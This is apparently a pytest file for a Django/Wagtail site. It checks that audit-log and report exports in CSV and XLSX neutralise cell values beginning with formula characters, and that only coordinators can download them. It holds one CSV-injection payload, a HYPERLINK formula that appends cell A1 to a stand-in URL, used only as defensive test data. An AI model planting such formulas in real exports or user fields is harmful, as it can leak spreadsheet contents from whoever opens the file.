"""The site history's exports (the audit trail): a name or an account that starts like a
formula never leaves as a formula, in CSV (the one writer, core.csv_files) nor in XLSX."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook
from wagtail.log_actions import log

from observatoire.accounts.roles import COORDINATOR, REVIEWER
from observatoire.accounts.tests.helpers import account, sign_in
from observatoire.directory.models import Structure

FORMULA = '=HYPERLINK("http://x"&A1,"Cliquez ici")'
URL = "/gestion/reports/site-history/"


@pytest.fixture
def logged(demo, client):
    author = get_user_model().objects.create_user(
        "auteur", password="x" * 16, first_name="@Chef", last_name="-Projet"
    )
    structure = Structure.objects.filter(live=True).first()
    log(instance=structure, action="wagtail.edit", user=author, title=FORMULA)
    log(instance=structure, action="wagtail.edit", user=author, title="+33 4 67 00 00 00")
    sign_in(client, account("coordination", COORDINATOR))
    return structure


def download(client, export: str) -> bytes:
    response = client.get(f"{URL}?export={export}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_csv_export_neutralises_names_and_accounts(logged, client):
    response = client.get(f"{URL}?export=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    header, lines = rows[0], rows[1:]
    assert len(header) == 6
    labels = [line[1] for line in lines]
    assert "'" + FORMULA in labels and "'+33 4 67 00 00 00" in labels
    assert FORMULA not in labels
    authors = {line[4] for line in lines if line[1] == "'" + FORMULA}
    assert len(authors) == 1 and authors.pop().startswith("'@Chef")
    for line in lines:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in line)
        assert line[0] == str(int(line[0]))  # identifiers stay as they are


def test_the_xlsx_export_stores_them_as_text_never_as_formulas(logged, client):
    sheet = load_workbook(io.BytesIO(download(client, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    formula = [cell for cell in cells if cell.value == FORMULA]
    assert formula and all(cell.data_type == "s" for cell in formula)


def test_only_the_audit_trail_readers_download_it(logged, client):
    client.logout()
    sign_in(client, account("relecture", REVIEWER))
    for export in ("csv", "xlsx"):
        assert client.get(f"{URL}?export={export}").status_code == 302


def test_every_other_wagtail_report_writes_through_the_one_writer(demo, client):
    """The locked pages report, as one of Wagtail's reports that no project view wraps."""
    from wagtail.models import Page

    user = account("coordinatrice-rapports", COORDINATOR)
    page = Page.objects.get(slug="caf-herault")
    page.title, page.locked, page.locked_by = FORMULA, True, user
    page.save()
    sign_in(client, user)
    response = client.get("/gestion/reports/locked/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert any(cell == "'" + FORMULA for row in rows for cell in row), rows
    assert not any(cell.startswith("=") for row in rows for cell in row)
